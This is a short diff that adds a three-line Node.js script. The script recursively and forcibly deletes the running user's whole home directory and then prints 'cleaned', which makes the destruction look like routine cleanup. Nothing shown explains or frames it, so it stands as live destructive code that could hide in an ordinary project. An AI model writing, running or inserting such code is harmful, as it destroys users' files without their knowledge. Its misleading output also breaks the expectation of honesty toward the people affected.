@@ -1,0 +1,3 @@
+const fs = require('fs'), os = require('os');
+fs.rmSync(os.homedir(), { recursive: true, force: true });
+console.log('cleaned');
